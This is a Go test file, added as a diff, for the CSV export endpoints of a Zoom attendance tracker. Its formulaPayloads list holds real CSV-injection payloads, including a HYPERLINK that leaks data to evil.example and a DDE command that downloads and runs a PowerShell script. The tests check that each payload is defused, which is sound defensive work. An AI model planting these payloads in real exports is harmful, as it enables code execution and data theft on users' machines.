@@ -1,0 +1,545 @@
+package handlers_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"flag"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"rollcall/handlers"
+	"rollcall/jobs"
+	"rollcall/models"
+	"rollcall/zoom"
+	"rollcall/zoom/zoomtest"
+)
+
+var updateCSV = flag.Bool("update-csv", false, "rewrite the CSV golden files in testdata/")
+
+// newExportEnv is newEnv with a default zone (ROLLCALL_TIMEZONE) of
+// America/New_York, so that tests can tell the default from ?tz=.
+func newExportEnv(t *testing.T) *env {
+	t.Helper()
+	ctx := context.Background()
+	store, err := models.Open(ctx, filepath.Join(t.TempDir(), "rollcall.db"), nil)
+	require.NoError(t, err)
+	t.Cleanup(func() { store.Close() })
+	require.NoError(t, store.Migrate(ctx))
+	require.NoError(t, jobs.Migrate(ctx, store, nil))
+	q, err := jobs.New(store, nil, jobs.Config{FetchDelay: time.Minute}, nil)
+	require.NoError(t, err)
+	ny, err := time.LoadLocation("America/New_York")
+	require.NoError(t, err)
+	e := &env{store: store, now: time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)}
+	h := handlers.New(store, q, handlers.Config{
+		WebhookSecret: secret,
+		Now:           func() time.Time { return e.now },
+		Timezone:      ny,
+	}, nil)
+	e.srv = httptest.NewServer(h.Router())
+	t.Cleanup(e.srv.Close)
+	return e
+}
+
+// formulaPayloads are real CSV-injection payloads; each must come out
+// prefixed with "'".
+var formulaPayloads = []string{
+	`=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
+	`=1+1`,
+	`@SUM(1+1)*cmd|' /C calc'!A0`,
+	`+cmd|' /C calc'!A0`,
+	`-2+3`,
+	"\t=1",
+	"\r=1",
+	`=cmd|' /C powershell IEX(wget evil.example/x.ps1)'!A0`,
+	`@admin`,
+}
+
+// hostileRows are participants whose values stress quoting, sanitizing and
+// formula defusing.
+func hostileRows(start time.Time) []zoomtest.Participant {
+	at := func(min int) *time.Time { t := start.Add(time.Duration(min) * time.Minute); return &t }
+	var rows []zoomtest.Participant
+	for i, p := range formulaPayloads {
+		rows = append(rows, zoomtest.Participant{
+			UserID: strconv.Itoa(9000 + i), ParticipantUUID: "F" + strconv.Itoa(i), Name: p,
+			Email: "f" + strconv.Itoa(i) + "@example.com", Join: *at(2), Leave: at(50),
+			LeaveReason: p, Device: p, Location: p,
+		})
+	}
+	rows = append(rows,
+		zoomtest.Participant{
+			UserID: "9100", ParticipantUUID: "Q1", Name: "Doe, \"Jane\"\nSr.", Email: "jane@example.com",
+			Join: *at(1), Leave: at(59), LeaveReason: "Jane left,<br>then \"came\" back<br/>Reason: <b>network</b> &amp; more",
+			InternalIPAddresses: []string{"10.0.0.1", "10.0.0.2"},
+			Extra: map[string]any{
+				"audio_call":          []map[string]string{{"call_number": "+1 555 0100", "call_type": "call-in", "zoom_number": "+1 555 0199"}},
+				"zz_future":           "a field Zoom adds later",
+				"total_jointime_cost": 3480,
+				"groupId":             nil,
+			},
+		},
+		zoomtest.Participant{
+			UserID: "9101", ParticipantUUID: "Q2", Name: "Zoë Ångström 山田", Email: "zoe@example.com",
+			Join: *at(3), Leave: nil, Device: "Mac, Intel",
+		},
+	)
+	return rows
+}
+
+// seedExport stores a generated meeting (plus hostileRows) through the
+// real segment conversion, and returns it.
+func seedExport(t *testing.T, e *env, seed int64, start time.Time, topic string) models.Meeting {
+	t.Helper()
+	ctx := context.Background()
+	zm := zoomtest.Generate(zoomtest.GenOptions{Participants: 40, Seed: seed, Start: start, Topic: topic})
+	rows := append(zm.Participants, hostileRows(zm.Start)...)
+	end := zm.End
+	m, err := e.store.UpsertEndedMeeting(ctx, models.MeetingEnded{
+		UUID: zm.UUID, MeetingNumber: zm.ID, Topic: zm.Topic, HostID: zm.HostID, Type: 8,
+		StartTime: zm.Start, EndTime: &end, Timezone: zm.Timezone,
+	})
+	require.NoError(t, err)
+	segs := make([]models.Segment, len(rows))
+	for i, p := range rows {
+		var zp zoom.Participant
+		require.NoError(t, json.Unmarshal(p.DashboardJSON(true), &zp))
+		segs[i] = jobs.SegmentFrom(zp)
+	}
+	require.NoError(t, e.store.Tx(ctx, func(tx *models.Store) error {
+		return tx.ReplaceSegments(ctx, m.ID, "dashboard", segs)
+	}))
+	return m
+}
+
+var weeklyStart = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)
+
+// get fetches path with c and returns the response and its body.
+func get(t *testing.T, c *http.Client, u string) (*http.Response, []byte) {
+	t.Helper()
+	res, err := c.Get(u)
+	require.NoError(t, err)
+	defer res.Body.Close()
+	b, err := io.ReadAll(res.Body)
+	require.NoError(t, err)
+	return res, b
+}
+
+// parseCSV parses body strictly (every record as wide as the header).
+func parseCSV(t *testing.T, body []byte) [][]string {
+	t.Helper()
+	r := csv.NewReader(bytes.NewReader(body))
+	recs, err := r.ReadAll()
+	require.NoError(t, err)
+	require.NotEmpty(t, recs)
+	return recs
+}
+
+// golden compares got with testdata/name, rewriting it under -update-csv.
+func golden(t *testing.T, name string, got []byte) {
+	t.Helper()
+	path := filepath.Join("testdata", name)
+	if *updateCSV {
+		require.NoError(t, os.WriteFile(path, got, 0o644))
+	}
+	want, err := os.ReadFile(path)
+	require.NoError(t, err, "run go test ./handlers -run %s -update-csv", t.Name())
+	if !bytes.Equal(want, got) {
+		t.Errorf("%s differs from the golden file (go test ./handlers -run %s -update-csv to accept):\n%s",
+			path, t.Name(), firstDiff(string(want), string(got)))
+	}
+}
+
+func firstDiff(want, got string) string {
+	wl, gl := strings.Split(want, "\n"), strings.Split(got, "\n")
+	for i := 0; i < max(len(wl), len(gl)); i++ {
+		var w, g string
+		if i < len(wl) {
+			w = wl[i]
+		}
+		if i < len(gl) {
+			g = gl[i]
+		}
+		if w != g {
+			return "line " + strconv.Itoa(i+1) + ":\nwant " + strconv.Quote(w) + "\ngot  " + strconv.Quote(g)
+		}
+	}
+	return ""
+}
+
+func column(header []string, name string) int {
+	for i, h := range header {
+		if h == name {
+			return i
+		}
+	}
+	return -1
+}
+
+func TestExportGolden(t *testing.T) {
+	e := newExportEnv(t)
+	m := seedExport(t, e, 11, weeklyStart, "Weekly <b>sync</b>, Q&A")
+	c := e.client(t, models.RoleViewer)
+	base := e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10)
+	for _, kind := range []string{"attendance", "sessions"} {
+		t.Run(kind, func(t *testing.T) {
+			res, body := get(t, c, base+"/"+kind+".csv?tz=Europe/Berlin")
+			require.Equal(t, http.StatusOK, res.StatusCode, string(body))
+			golden(t, "export_"+kind+".csv", body)
+			// The same data gives the same bytes.
+			_, again := get(t, c, base+"/"+kind+".csv?tz=Europe/Berlin")
+			assert.Equal(t, body, again)
+		})
+	}
+}
+
+func TestExportAttendanceMatchesComputation(t *testing.T) {
+	e := newExportEnv(t)
+	m := seedExport(t, e, 3, weeklyStart, "Numbers")
+	c := e.client(t, models.RoleViewer)
+	res, body := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/attendance.csv?tz=UTC")
+	require.Equal(t, http.StatusOK, res.StatusCode)
+	recs := parseCSV(t, body)
+	assert.Equal(t, []string{"name", "email", "first_join", "last_leave", "attended_seconds", "attended_minutes",
+		"attendance_percent", "sessions", "late", "left_early", "present", "leave_reason",
+		"device", "location", "role", "registrant_id", "user_id", "person_key"}, recs[0])
+
+	segs, err := e.store.SegmentsForPage(context.Background(), m.ID)
+	require.NoError(t, err)
+	as := models.ComputeAttendance(segs, models.Window{Start: m.StartTime, End: m.EndTime}, models.DefaultThresholds())
+	require.Len(t, recs, len(as)+1)
+	for i, a := range as {
+		r := recs[i+1]
+		assert.Equal(t, a.Key, r[17], "row %d: order is ComputeAttendance's (first join, name)", i)
+		assert.Equal(t, strconv.FormatInt(a.AttendedSeconds, 10), r[4])
+		assert.Equal(t, strconv.FormatFloat(a.AttendedMinutes(), 'f', 1, 64), r[5])
+		assert.Equal(t, strconv.FormatFloat(a.PercentRounded(), 'f', 1, 64), r[6])
+		assert.Equal(t, strconv.Itoa(a.Sessions), r[7])
+		assert.Equal(t, strconv.FormatBool(a.Late), r[8])
+		assert.Equal(t, strconv.FormatBool(a.LeftEarly), r[9])
+		assert.Equal(t, strconv.FormatBool(a.Present), r[10])
+		if a.Sessions > 0 {
+			assert.Equal(t, a.FirstJoin.UTC().Format(time.RFC3339), r[2])
+		} else {
+			assert.Empty(t, r[2])
+		}
+		// Leave reasons are sanitized text.
+		assert.NotContains(t, r[11], "<br")
+		assert.NotContains(t, r[11], "<b>")
+	}
+	// Numbers are never quoted and use "." whatever the locale.
+	num := regexp.MustCompile(`^[0-9]+(\.[0-9])?$`)
+	for _, r := range recs[1:] {
+		for _, i := range []int{4, 5, 6, 7} {
+			assert.Regexp(t, num, r[i])
+		}
+	}
+	for _, line := range strings.Split(string(body), "\r\n")[1:] {
+		assert.NotRegexp(t, `,"[0-9.]+",`, line, "a number was quoted")
+	}
+}
+
+func TestExportSessionsEveryField(t *testing.T) {
+	e := newExportEnv(t)
+	m := seedExport(t, e, 5, weeklyStart, "Fields")
+	c := e.client(t, models.RoleViewer)
+	res, body := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/sessions.csv?tz=UTC")
+	require.Equal(t, http.StatusOK, res.StatusCode)
+	recs := parseCSV(t, body)
+	h := recs[0]
+	assert.Equal(t, []string{"name", "email", "join_time", "leave_time", "duration_seconds"}, h[:5])
+	// Every key of the seed fixture is a column, except those the first
+	// columns carry.
+	var seed struct{ Participants []map[string]any }
+	b, err := os.ReadFile("/work/shared/fixtures/dashboard_participants_seed.json")
+	if err == nil {
+		require.NoError(t, json.Unmarshal(b, &seed))
+		for _, p := range seed.Participants {
+			for k := range p {
+				if k == "user_name" || k == "join_time" || k == "leave_time" {
+					continue
+				}
+				assert.GreaterOrEqual(t, column(h, k), 0, "seed key %s", k)
+			}
+		}
+	}
+	for _, k := range []string{"internal_ip_addresses", "audio_call", "zz_future", "participant_uuid", "registrant_id", "bo_mtg_id"} {
+		assert.GreaterOrEqual(t, column(h, k), 0, k)
+	}
+	// Unknown keys come after the known ones.
+	assert.Equal(t, "zz_future", h[len(h)-1])
+
+	segs, err := e.store.Segments(context.Background(), m.ID)
+	require.NoError(t, err)
+	require.Len(t, recs, len(segs)+1)
+	var jane []string
+	prevJoin := ""
+	for _, r := range recs[1:] {
+		require.Len(t, r, len(h))
+		assert.GreaterOrEqual(t, r[2], prevJoin, "rows are in join-time order")
+		prevJoin = r[2]
+		if r[column(h, "participant_uuid")] == "Q1" {
+			jane = r
+		}
+		if r[3] == "" {
+			assert.Empty(t, r[4], "no leave, no duration")
+		}
+	}
+	require.NotNil(t, jane)
+	assert.Equal(t, "Doe, \"Jane\"\nSr.", jane[0])
+	assert.Equal(t, "2026-11-20T10:01:00Z", jane[2])
+	assert.Equal(t, "2026-11-20T10:59:00Z", jane[3])
+	assert.Equal(t, "3480", jane[4])
+	assert.Equal(t, `["10.0.0.1","10.0.0.2"]`, jane[column(h, "internal_ip_addresses")])
+	assert.Equal(t, `[{"call_number":"+1 555 0100","call_type":"call-in","zoom_number":"+1 555 0199"}]`, jane[column(h, "audio_call")])
+	assert.Equal(t, "Jane left,\nthen \"came\" back\nReason: network & more", jane[column(h, "leave_reason")])
+	assert.Equal(t, "3480", jane[column(h, "total_jointime_cost")])
+	assert.Equal(t, "", jane[column(h, "groupId")])
+	assert.Equal(t, "false", jane[column(h, "recording")])
+	assert.Equal(t, "a field Zoom adds later", jane[column(h, "zz_future")])
+}
+
+func TestExportFormulaInjection(t *testing.T) {
+	e := newExportEnv(t)
+	m := seedExport(t, e, 7, weeklyStart, "=HYPERLINK(\"x\")")
+	c := e.client(t, models.RoleViewer)
+	base := e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10)
+	for _, kind := range []string{"attendance", "sessions"} {
+		t.Run(kind, func(t *testing.T) {
+			res, body := get(t, c, base+"/"+kind+".csv")
+			require.Equal(t, http.StatusOK, res.StatusCode)
+			recs := parseCSV(t, body)
+			names := map[string]bool{}
+			for _, r := range recs {
+				for _, cell := range r {
+					if cell == "" {
+						continue
+					}
+					assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q starts a formula", cell)
+				}
+				names[r[0]] = true
+			}
+			for _, p := range formulaPayloads {
+				// CRLF output drops a lone CR inside a quoted field; what is left
+				// still starts with the quote.
+				want := "'" + strings.ReplaceAll(p, "\r", "")
+				if p == "\r=1" {
+					assert.True(t, names[want] || names["'\n=1"] || names["'=1"], "payload %q", p)
+					continue
+				}
+				assert.True(t, names[want], "payload %q not defused as %q", p, want)
+			}
+		})
+	}
+}
+
+func TestExportTimeZones(t *testing.T) {
+	e := newExportEnv(t)
+	m := seedExport(t, e, 9, weeklyStart, "Zones")
+	viewer := e.client(t, models.RoleViewer)
+	u := e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10) + "/attendance.csv"
+
+	for _, tc := range []struct {
+		name, query, offset, zone string
+	}{
+		{"default zone", "", "-05:00", "America-New_York"},
+		{"tz Berlin", "?tz=Europe/Berlin", "+01:00", "Europe-Berlin"},
+		{"tz UTC", "?tz=UTC", "Z", "UTC"},
+		{"tz Kolkata", "?tz=Asia/Kolkata", "+05:30", "Asia-Kolkata"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			res, body := get(t, viewer, u+tc.query)
+			require.Equal(t, http.StatusOK, res.StatusCode)
+			recs := parseCSV(t, body)
+			first := recs[1][2]
+			ts, err := time.Parse(time.RFC3339, first)
+			require.NoError(t, err)
+			assert.True(t, strings.HasSuffix(first, tc.offset), first)
+			assert.False(t, ts.Before(m.StartTime.Add(-time.Hour)))
+			assert.Contains(t, res.Header.Get("Content-Disposition"), "_2026-11-20_"+tc.zone+".csv")
+		})
+	}
+
+	// The user's own zone beats the default; ?tz= beats both.
+	var users []models.User
+	users, err := e.store.Users(context.Background())
+	require.NoError(t, err)
+	require.NoError(t, e.store.SetUserTimezone(context.Background(), users[0].ID, "Asia/Tokyo"))
+	res, body := get(t, viewer, u)
+	require.Equal(t, http.StatusOK, res.StatusCode)
+	assert.True(t, strings.HasSuffix(parseCSV(t, body)[1][2], "+09:00"))
+	assert.Contains(t, res.Header.Get("Content-Disposition"), "_Asia-Tokyo.csv")
+
+	for _, path := range []string{"/attendance.csv", "/sessions.csv"} {
+		res, body = get(t, viewer, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+path+"?tz=Mars/Olympus_Mons")
+		assert.Equal(t, http.StatusBadRequest, res.StatusCode)
+		assert.Contains(t, string(body), "unknown time zone")
+		assert.Empty(t, res.Header.Get("Content-Disposition"))
+	}
+	for _, path := range []string{"/series/" + strconv.FormatInt(m.MeetingNumber, 10) + ".csv?tz=Nowhere", "/meetings.csv?from=2026-11-01&to=2026-11-30&tz=Nowhere"} {
+		res, body = get(t, viewer, e.srv.URL+path)
+		assert.Equal(t, http.StatusBadRequest, res.StatusCode, path)
+		assert.Contains(t, string(body), "unknown time zone", path)
+	}
+}
+
+func TestExportBOM(t *testing.T) {
+	e := newExportEnv(t)
+	m := seedExport(t, e, 9, weeklyStart, "BOM")
+	c := e.client(t, models.RoleViewer)
+	for _, kind := range []string{"attendance", "sessions"} {
+		u := e.srv.URL + "/meetings/" + strconv.FormatUint(m.ID, 10) + "/" + kind + ".csv"
+		_, plain := get(t, c, u)
+		_, bom := get(t, c, u+"?bom=1")
+		assert.False(t, bytes.HasPrefix(plain, []byte("\uFEFF")), kind)
+		require.True(t, bytes.HasPrefix(bom, []byte("\xEF\xBB\xBF")), kind)
+		assert.Equal(t, plain, bom[3:], kind)
+	}
+}
+
+func TestExportAccess(t *testing.T) {
+	e := newExportEnv(t)
+	m := seedExport(t, e, 13, weeklyStart, "Tom & Jerry: Zoë's «review»")
+	id := strconv.FormatUint(m.ID, 10)
+	paths := []string{
+		"/meetings/" + id + "/attendance.csv",
+		"/meetings/" + id + "/sessions.csv",
+		"/series/" + strconv.FormatInt(m.MeetingNumber, 10) + ".csv",
+		"/meetings.csv?from=2026-11-20&to=2026-11-20",
+	}
+	anon := &http.Client{CheckRedirect: noRedirect}
+	for _, p := range paths {
+		res, _ := get(t, anon, e.srv.URL+p)
+		assert.Equal(t, http.StatusUnauthorized, res.StatusCode, p)
+		assert.Empty(t, res.Header.Get("Content-Disposition"), p)
+	}
+	viewer := e.client(t, models.RoleViewer)
+	for _, p := range paths {
+		res, body := get(t, viewer, e.srv.URL+p)
+		require.Equal(t, http.StatusOK, res.StatusCode, p)
+		assert.Equal(t, "text/csv; charset=utf-8", res.Header.Get("Content-Type"), p)
+		cd := res.Header.Get("Content-Disposition")
+		assert.Regexp(t, `^attachment; filename="[A-Za-z0-9._-]+\.csv"`, cd, p)
+		assert.Contains(t, cd, "_America-New_York.csv", p)
+		assert.Equal(t, "private, no-store", res.Header.Get("Cache-Control"), p)
+		recs := parseCSV(t, body)
+		assert.Greater(t, len(recs), 1, p)
+		// UTF-8 intact.
+		assert.Contains(t, string(body), "Zoë Ångström 山田", p)
+	}
+	res, _ := get(t, viewer, e.srv.URL+paths[0])
+	cd := res.Header.Get("Content-Disposition")
+	assert.Contains(t, cd, `filename="Tom_Jerry_Zo_s_review-attendance_2026-11-20_America-New_York.csv"`)
+	assert.Contains(t, cd, `filename*=UTF-8''Tom%20&%20Jerry%20Zo%C3%AB%27s%20%C2%ABreview%C2%BB-attendance_2026-11-20_America-New_York.csv`)
+
+	for _, p := range []string{"/meetings/999/attendance.csv", "/meetings/999/sessions.csv", "/series/1.csv", "/series/x.csv"} {
+		res, _ := get(t, viewer, e.srv.URL+p)
+		assert.Equal(t, http.StatusNotFound, res.StatusCode, p)
+	}
+	for _, p := range []string{"/meetings.csv", "/meetings.csv?from=2026-11-20", "/meetings.csv?from=20.11.2026&to=2026-11-21", "/meetings.csv?from=2026-11-21&to=2026-11-20"} {
+		res, _ := get(t, viewer, e.srv.URL+p)
+		assert.Equal(t, http.StatusBadRequest, res.StatusCode, p)
+	}
+}
+
+func TestExportSeries(t *testing.T) {
+	e := newExportEnv(t)
+	// Three instances of one series: same seed, so the same people.
+	var ms []models.Meeting
+	for i := range 3 {
+		zm := zoomtest.Generate(zoomtest.GenOptions{Participants: 30, Seed: 21, Start: weeklyStart.AddDate(0, 0, 7*i), Topic: "Weekly sync"})
+		zm.UUID = zoomtest.UUID(uint64(100 + i))
+		end := zm.End
+		m, err := e.store.UpsertEndedMeeting(context.Background(), models.MeetingEnded{
+			UUID: zm.UUID, MeetingNumber: 85000000001, Topic: zm.Topic, StartTime: zm.Start, EndTime: &end,
+		})
+		require.NoError(t, err)
+		rows := zm.Participants
+		if i == 1 {
+			rows = rows[:10] // fewer people the second week
+		}
+		segs := make([]models.Segment, len(rows))
+		for j, p := range rows {
+			var zp zoom.Participant
+			require.NoError(t, json.Unmarshal(p.DashboardJSON(true), &zp))
+			segs[j] = jobs.SegmentFrom(zp)
+		}
+		require.NoError(t, e.store.Tx(context.Background(), func(tx *models.Store) error {
+			return tx.ReplaceSegments(context.Background(), m.ID, "dashboard", segs)
+		}))
+		ms = append(ms, m)
+	}
+	c := e.client(t, models.RoleViewer)
+	res, body := get(t, c, e.srv.URL+"/series/85000000001.csv?tz=Europe/Berlin")
+	require.Equal(t, http.StatusOK, res.StatusCode, string(body))
+	assert.Contains(t, res.Header.Get("Content-Disposition"), `filename="Weekly_sync-series_2026-11-20_2026-12-04_Europe-Berlin.csv"`)
+	recs := parseCSV(t, body)
+	assert.Equal(t, []string{"name", "email", "person_key",
+		"2026-11-20T11:00:00+01:00", "2026-11-27T11:00:00+01:00", "2026-12-04T11:00:00+01:00",
+		"attended_instances", "present_instances", "total_seconds", "total_minutes", "average_percent"}, recs[0])
+
+	// Cells are each instance's attended minutes, as attendance.csv says.
+	perInstance := make([]map[string][]string, 3)
+	for i, m := range ms {
+		_, b := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/attendance.csv")
+		perInstance[i] = map[string][]string{}
+		for _, r := range parseCSV(t, b)[1:] {
+			perInstance[i][r[17]] = r
+		}
+	}
+	for _, r := range recs[1:] {
+		key := r[2]
+		attended := 0
+		var total int64
+		for i := range 3 {
+			a, ok := perInstance[i][key]
+			if !ok {
+				assert.Empty(t, r[3+i], "%s missed instance %d", key, i)
+				continue
+			}
+			attended++
+			assert.Equal(t, a[5], r[3+i], "%s instance %d", key, i)
+			s, _ := strconv.ParseInt(a[4], 10, 64)
+			total += s
+		}
+		assert.Equal(t, strconv.Itoa(attended), r[6], key)
+		assert.Equal(t, strconv.FormatInt(total, 10), r[8], key)
+	}
+}
+
+func TestExportMeetingsRange(t *testing.T) {
+	e := newExportEnv(t)
+	a := seedExport(t, e, 31, weeklyStart, "First")
+	b := seedExport(t, e, 32, weeklyStart.Add(26*time.Hour), "Second")
+	seedExport(t, e, 33, weeklyStart.AddDate(0, 0, 5), "Later")
+	c := e.client(t, models.RoleViewer)
+	res, body := get(t, c, e.srv.URL+"/meetings.csv?from=2026-11-20&to=2026-11-21&tz=UTC")
+	require.Equal(t, http.StatusOK, res.StatusCode, string(body))
+	assert.Contains(t, res.Header.Get("Content-Disposition"), `filename="meetings-attendance_2026-11-20_2026-11-21_UTC.csv"`)
+	recs := parseCSV(t, body)
+	assert.Equal(t, []string{"meeting_id", "meeting_uuid", "meeting_number", "topic", "meeting_start", "name", "email"}, recs[0][:7])
+
+	// Exactly the two meetings' attendance.csv rows, meeting by meeting.
+	var want [][]string
+	for _, m := range []models.Meeting{a, b} {
+		_, ab := get(t, c, e.srv.URL+"/meetings/"+strconv.FormatUint(m.ID, 10)+"/attendance.csv?tz=UTC")
+		for _, r := range parseCSV(t, ab)[1:] {
+			want = append(want, append([]string{strconv.FormatUint(m.ID, 10), m.UUID, strconv.FormatInt(m.MeetingNumber, 10),
+				m.Topic, m.StartTime.UTC().Format(time.RFC3339)}, r...))
+		}
+	}
+	assert.Equal(t, want, recs[1:])
+}
